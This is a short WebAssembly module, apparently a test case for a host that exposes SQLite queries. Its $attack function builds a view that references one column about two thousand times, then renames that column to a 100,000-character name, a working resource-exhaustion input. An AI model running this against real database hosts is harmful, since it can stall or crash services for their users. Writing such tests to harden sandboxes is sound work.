;; Renames a column that stands two thousand times in a view to a name of 100,000 letters.
(module
  (import "pulp" "sqlite_query" (func $sql (param i32 i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 64)
  (data (i32.const 65536) "CREATE TABLE IF NOT EXISTS t(a)")
  (data (i32.const 65600) "CREATE VIEW IF NOT EXISTS v AS SELECT 1 IN (a")
  (data (i32.const 131072) "ALTER TABLE t RENAME a TO ")
  (func $run (param $at i32) (param $length i32) (result i32)
    (call $sql (local.get $at) (local.get $length) (i32.const 0) (i32.const 0) (i32.const 32) (i32.const 36)))
  (func $attack (result i32)
    (local $at i32)
    (drop (call $run (i32.const 65536) (i32.const 31)))
    (local.set $at (i32.const 65645))
    (loop $again
      (i32.store16 (local.get $at) (i32.const 0x612c)) ;; ,a
      (local.set $at (i32.add (local.get $at) (i32.const 2)))
      (br_if $again (i32.lt_u (local.get $at) (i32.const 69645))))
    (i64.store (local.get $at) (i64.const 0x74204d4f52462029)) ;; ) FROM t
    (drop (call $run (i32.const 65600) (i32.const 4053)))
    (memory.fill (i32.const 131098) (i32.const 120) (i32.const 100000))
    (call $run (i32.const 131072) (i32.const 100026))))
